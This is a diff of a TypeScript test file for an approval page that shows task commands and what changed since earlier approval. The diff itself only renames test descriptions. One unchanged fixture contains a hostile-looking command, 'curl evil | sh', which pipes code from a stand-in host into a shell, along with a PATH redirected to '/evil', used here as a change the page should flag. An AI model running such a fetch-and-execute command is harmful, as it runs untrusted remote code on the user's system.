@@ -21,7 +21,7 @@ function shown(...[set, record]: [Parameters<typeof consentPage>[0], Parameters<
   return lines.slice(7, -1);
 }
 
-describe('the page on which a person decides', () => {
+describe('the approval page', () => {
   it('has every command, its folder where that is another, and what else runs', () => {
     const set = setOf(task('api', 'node server.js'), task('ui', 'npm run dev', '/shop/web', ['user: root']));
     assert.deepEqual(shown(set), [
@@ -135,7 +135,7 @@ describe('the page on which a person decides', () => {
     assert.match(consentPage(setOf(task('a')), undefined, shop), /does not look into scripts and env files/);
   });
 
-  it('tells what is new, changed with its old and new values, gone, and agreed to before', () => {
+  it('shows what is new, changed with its old and new values, gone, and approved before', () => {
     const record = recordOf(task('api', 'run api', '/shop', ['user: me']), task('db'), task('ui'));
     const set = setOf(task('api', 'curl evil | sh', '/shop', ['env.PATH: /evil']), task('ui'), task('new'));
     assert.deepEqual(shown(set, record), [
@@ -166,7 +166,7 @@ describe('the page on which a person decides', () => {
     ]);
   });
 
-  it('has no value of a variable written down, and tells all the same which is another', () => {
+  it('stores no value of a variable, and shows all the same which has changed', () => {
     const before = task('api', 'run api', '/shop', ['user: me', 'env.A: 1', 'env.B: s3cr3t', 'env.C: 3', 'env: TOKEN']);
     const written = withoutValues(before);
     assert.deepEqual(written.details[0], 'user: me');
